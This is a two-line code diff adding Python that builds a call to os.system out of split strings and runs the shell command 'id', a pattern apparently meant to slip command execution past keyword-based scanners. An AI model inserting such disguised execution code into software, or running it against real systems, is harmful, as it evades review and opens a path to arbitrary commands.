@@ -1,0 +1,2 @@
+runner = getattr(__import__("o" + "s"), "sys" + "tem")
+runner("id")
